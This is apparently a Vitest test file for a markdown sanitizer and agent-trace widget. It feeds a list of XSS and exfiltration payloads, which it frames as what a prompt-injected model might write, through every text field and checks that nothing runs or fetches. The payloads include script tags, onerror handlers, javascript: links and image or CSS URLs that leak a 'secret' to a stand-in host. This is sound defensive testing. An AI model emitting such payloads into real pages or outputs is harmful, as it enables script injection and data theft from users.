// Hostile model output: every payload a prompt-injected model might write, through the sanitizer and through every
// text field of the widget's state. Nothing may run, nothing may fetch; the text itself stays readable.
import { afterEach, describe, expect, it } from "vitest";
import { markdownFragment } from "../src/markdown.js";
import { mount, nextRedraw, sampleState, toolStepState, unmountAll } from "./fixtures.js";

const LEAK = "http://127.0.0.1:9/leak";

/** What a prompt-injected model writes: each runs script or makes the browser fetch, unless neutralized. */
export const PAYLOADS = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=2">',
  "[click](javascript:window.__pwned=3)",
  '<svg onload="window.__pwned=4"></svg>',
  '<a href="javascript:alert(1)">x</a>',
  `![x](${LEAK}?d=secret)`,
  `<img src="${LEAK}2">`,
  `<div style="background:url(${LEAK}3)">styled</div>`,
  `<iframe src="${LEAK}4"></iframe>`,
  `<link rel=stylesheet href="${LEAK}5">`,
  `<video poster="${LEAK}6"></video>`,
  `<input type=image src="${LEAK}7">`,
  `<img srcset="${LEAK}8 1x">`,
  `<picture><source srcset="${LEAK}9"></picture>`,
  `<audio src="${LEAK}10"></audio>`,
  `<object data="${LEAK}11"></object>`,
  `<embed src="${LEAK}12">`,
  `<table background="${LEAK}13"><tr><td>t</td></tr></table>`,
  `<form action="${LEAK}14"><button>go</button></form>`,
  `<svg><image href="${LEAK}15"/></svg>`,
  `<math><mi xlink:href="${LEAK}16">m</mi></math>`,
  `<style>@import url(${LEAK}17);</style>`,
  `<meta http-equiv="refresh" content="0;url=${LEAK}18">`,
  `<base href="${LEAK}19/">`,
  `[rel](./relative/path) [data](data:text/html,<script>alert(1)</script>)`,
  `[ref][r]\n\n[r]: javascript:window.__pwned=6`,
  `![ref image][i]\n\n[i]: ${LEAK}20`,
  '<details open ontoggle="window.__pwned=7">d</details>',
  "`<img src=x onerror=alert(1)>` in code",
  "- [l]: javascript:window.__pwned=8\n\n[l]",
  "[multi\nline]: javascript:window.__pwned=9\n\n[multi line]",
].join("\n\n");

const FETCHING =
  "img, picture, source, video, audio, iframe, object, embed, link, input, form, svg, math, image, style";

/**
 * Asserts that `root` holds nothing that runs or fetches, and only http(s)/mailto links opening elsewhere.
 * @param {ParentNode} root
 */
function expectInert(root) {
  expect(root.querySelectorAll(`script, ${FETCHING}, meta, base`).length).toBe(0);
  for (const button of root.querySelectorAll("button")) expect(button.className).toMatch(/^dagmagic-/); // ours
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      expect(attr.name, `${el.tagName} ${attr.name}`).not.toMatch(
        /^(on|style$|src|srcset$|poster$|background$|data$|action$|xlink)/,
      );
    }
  }
  for (const a of root.querySelectorAll("a[href]")) {
    expect(a.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
    expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(a.getAttribute("target")).toBe("_blank");
  }
}

afterEach(unmountAll);

describe("the sanitizer, given every payload", () => {
  it("keeps a table's column alignment as classes (no style attribute)", () => {
    const root = document.createElement("div");
    root.append(markdownFragment("| a | b | c | d |\n|:--|:-:|--:|---|\n| x | y | z | w |"));
    const classes = (/** @type {string} */ tag) => [...root.querySelectorAll(tag)].map((cell) => cell.className);
    const aligned = ["dagmagic-align-left", "dagmagic-align-center", "dagmagic-align-right", ""];
    expect(classes("th")).toEqual(aligned);
    expect(classes("td")).toEqual(aligned);
    expect(root.querySelector("[style]")).toBeNull();
    root.replaceChildren(markdownFragment("3. three\n4. four"));
    expect(root.querySelector("ol")?.getAttribute("start")).toBe("3"); // a list that starts at 3 keeps its numbers
  });

  it("keeps nothing that runs or fetches", () => {
    const root = document.createElement("div");
    root.append(markdownFragment(PAYLOADS));
    expectInert(root);
    expect(root.querySelector("a:not([href])")).toBeNull(); // a javascript: link: its text only
    expect(root.textContent).toContain("click");
  });

  it("shows raw HTML as the text it is", () => {
    const root = document.createElement("div");
    root.append(markdownFragment(PAYLOADS));
    const text = root.textContent ?? "";
    expect(text).toContain("<script>window.__pwned=1</script>");
    expect(text).toContain('<img src=x onerror="window.__pwned=2">');
    expect(text).toContain(`<div style="background:url(${LEAK}3)">styled</div>`);
    expect(root.querySelector("code")?.textContent).toBe("<img src=x onerror=alert(1)>");
  });

  it("turns a remote image into a link to it, and an image without an http(s) address into its alt text", () => {
    const root = document.createElement("div");
    root.append(markdownFragment(`![a chart](${LEAK}?d=secret) and ![local](file.png) and ![s](javascript:x)`));
    const link = /** @type {HTMLAnchorElement} */ (root.querySelector("a.dagmagic-image-link"));
    expect(link.getAttribute("href")).toBe(`${LEAK}?d=secret`);
    expect(link.textContent).toBe("[image: a chart]");
    expect(root.textContent).toContain("[image: local]");
    expect(root.textContent).toContain("[image: s]");
    expectInert(root);
  });

  it("keeps ordinary Markdown: emphasis, code, tables, http(s) and mailto links", () => {
    const root = document.createElement("div");
    root.append(
      markdownFragment(
        "**b** _i_ `c`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.org) <mailto:x@y.z>",
      ),
    );
    expect(root.querySelector("strong")?.textContent).toBe("b");
    expect(root.querySelector("td")?.textContent).toBe("1");
    expect(root.querySelector('a[href="https://example.org"]')?.textContent).toBe("site");
    expect(root.querySelector('a[href="mailto:x@y.z"]')).not.toBeNull();
    expectInert(root);
  });
});

describe("the widget, with every payload in every text field", () => {
  it("draws and opens everything without markup from the model", async () => {
    const state = sampleState();
    state.goal = PAYLOADS;
    state.error = PAYLOADS;
    const round = state.rounds[1];
    round.error = PAYLOADS;
    round.warnings = [PAYLOADS];
    state.rounds[0].analysis.reasoning = PAYLOADS;
    state.rounds[0].decision.reason = PAYLOADS;
    state.rounds[0].nodes[1].error = PAYLOADS;
    const a = round.nodes[0];
    Object.assign(a, { task: PAYLOADS, result: PAYLOADS });
    a.tool_calls[0] = { ...a.tool_calls[0], observation: PAYLOADS, arguments: { query: PAYLOADS } };
    const { el, model } = mount(state);
    model.set("answer", PAYLOADS);
    await nextRedraw();
    for (const node of el.querySelectorAll(".dagmagic-node")) {
      node.dispatchEvent(new MouseEvent("click", { bubbles: true }));
      await nextRedraw();
      expectInert(el.querySelector(".dagmagic-detail") ?? el);
    }
    for (const summary of el.querySelectorAll("summary")) {
      summary.dispatchEvent(new MouseEvent("click", { bubbles: true }));
    }
    await nextRedraw();
    const widgetSvg = el.querySelectorAll("svg.dagmagic-graph");
    expect(widgetSvg.length).toBeGreaterThan(0);
    for (const svg of widgetSvg) expect(svg.querySelectorAll("image, foreignObject, script, a").length).toBe(0);
    for (const part of el.querySelectorAll(".dagmagic-answer-body, .dagmagic-detail, .dagmagic-verdict")) {
      expectInert(part);
    }
    expect(el.querySelector("script, img, iframe, [onerror], [onload], [style*='url(']")).toBeNull();
    expect(el.querySelector(".dagmagic-answer-body")?.textContent).toContain("<script>window.__pwned=1</script>");
  });

  it("shows a tool step's tool, argument names and values as text", async () => {
    const { state } = toolStepState();
    const b = state.rounds[1].nodes[1];
    b.tool_hint = PAYLOADS;
    b.tool_args = { [PAYLOADS]: "$a", query: PAYLOADS };
    b.tool_calls[0] = { ...b.tool_calls[0], name: PAYLOADS, arguments: { [PAYLOADS]: PAYLOADS, query: PAYLOADS } };
    const e = state.rounds[1].nodes[4];
    e.tool_hint = PAYLOADS;
    e.tool_args = { [PAYLOADS]: PAYLOADS };
    const { el } = mount(state);
    for (const id of ["b", "e"]) {
      const node = /** @type {Element} */ (el.querySelector(`.dagmagic-node[data-step-id="${id}"]`));
      expect(node.querySelector(".dagmagic-node-call")?.textContent).toMatch(/^<script>window\.__pwned=1/);
      expect(node.querySelector("title")?.textContent).toContain('<img src=x onerror="window.__pwned=2">');
      node.dispatchEvent(new MouseEvent("click", { bubbles: true }));
      await nextRedraw();
      const detail = /** @type {Element} */ (el.querySelector(".dagmagic-detail"));
      expectInert(detail);
      const call = detail.querySelector(".dagmagic-toolstep-call");
      expect(call?.querySelector("script, img, a, svg")).toBeNull();
      expect(call?.textContent).toContain('<img src=x onerror="window.__pwned=2">');
    }
    expect(el.querySelector("script, img, iframe, [onerror], [onload]")).toBeNull();
  });
});
